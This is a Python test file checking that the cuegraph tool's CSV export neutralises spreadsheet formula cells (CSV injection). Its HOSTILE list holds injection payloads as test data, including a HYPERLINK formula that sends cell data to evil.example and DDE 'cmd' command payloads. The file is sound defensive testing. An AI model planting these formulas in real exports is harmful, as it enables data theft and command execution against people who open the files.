"""CSV that cuegraph writes for people (``cuegraph query -f csv``) guards cells a spreadsheet
would evaluate (OWASP CSV injection); the SPARQL endpoint's CSV/TSV stay standard data."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from cuegraph.config import Settings
from cuegraph.csvguard import FORMULA_STARTS
from support import cuegraph_cmd

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1,2;"3"\n=4',
]
PLAIN = ["Yuki Kajiura", "a=b", "梶浦由記", ""]
NUMBERS = ["-5", "+1.5e3", "-0.25"]


@pytest.fixture(scope="module")
def store_url(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csvguard")
    lines = ["@prefix schema: <https://schema.org/> ."]
    for i, v in enumerate(HOSTILE + PLAIN):
        text = (
            v.replace("\\", "\\\\")
            .replace('"', '\\"')
            .replace("\n", "\\n")
            .replace("\r", "\\r")
            .replace("\t", "\\t")
        )
        lines.append(f'<urn:x:s{i:02d}> schema:name "{text}" .')
    for i, v in enumerate(NUMBERS):
        lines.append(f'<urn:x:n{i:02d}> schema:value "{v}" .')  # as written, not normalised
    ttl = tmp / "hostile.ttl"
    ttl.write_text("\n".join(lines) + "\n", encoding="utf-8")
    url = f"oxigraph:{tmp / 'store'}"
    res = cuegraph_cmd("--store", url, "load", str(ttl), "--graph", "urn:x:g")
    assert res.returncode == 0, res.stderr
    return url


def _query_csv(url: str, query: str) -> list[list[str]]:
    exe = Path(sys.executable).with_name("cuegraph")  # bytes: a CR inside a cell stays a CR
    res = subprocess.run(
        [str(exe), "--store", url, "query", "-f", "csv", query],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert res.returncode == 0, res.stderr
    return list(csv.reader(io.StringIO(res.stdout.decode("utf-8"), newline="")))


def test_query_csv_guards_formula_cells(store_url):
    rows = _query_csv(store_url, "SELECT ?s ?name WHERE { ?s schema:name ?name } ORDER BY ?s")
    assert rows[0] == ["s", "name"]
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + v for v in HOSTILE] + PLAIN
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS


def test_query_csv_leaves_numbers_alone(store_url):
    """A cell that is exactly a number is not a formula (a negative number stays one)."""
    rows = _query_csv(store_url, "SELECT ?v WHERE { ?s schema:value ?v } ORDER BY ?s")
    assert [r[0] for r in rows[1:]] == NUMBERS


def test_sparql_endpoint_csv_and_tsv_stay_standard(store_url):
    """/sparql's CSV is SPARQL 1.1 CSV (data for programs): not rewritten; the README says so."""
    from fastapi.testclient import TestClient

    from cuegraph.api import create_app
    from cuegraph.store import open_store

    with open_store(store_url, read_only=True) as store:
        client = TestClient(create_app(store, Settings()))
        q = "SELECT ?name WHERE { <urn:x:s00> <https://schema.org/name> ?name }"
        resp = client.get("/sparql", params={"query": q}, headers={"Accept": "text/csv"})
        assert resp.status_code == 200
        assert list(csv.reader(io.StringIO(resp.text, newline="")))[1] == [HOSTILE[0]]


def test_detected_cue_csv_is_guarded_and_reads_back(tmp_path):
    """The review CSV of `cuegraph cues detect` is opened in spreadsheets: a recording title
    from the graph such as =HYPERLINK(…) is written guarded and read back as it was."""
    from decimal import Decimal

    from cuegraph.audio.cues import DetectedRow, read_csv, write_csv

    row = DetectedRow(
        work="anohana",
        episode=5,
        start=Decimal("10"),
        end=Decimal("20"),
        title=HOSTILE[0],
        usage="insert",
        recording="https://example.org/rec",
        confidence=0.9,
        method="chromaprint-ber",
        source="@ep5.mkv",
        notes="-2+3+cmd|' /C calc'!A0",
    )
    path = tmp_path / "detected.csv"
    write_csv(path, [row])
    cells = [
        c for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for c in r
    ]
    assert all(not c or c[0] not in FORMULA_STARTS for c in cells)
    assert "'" + HOSTILE[0] in cells and "'@ep5.mkv" in cells
    assert read_csv(path) == [row]
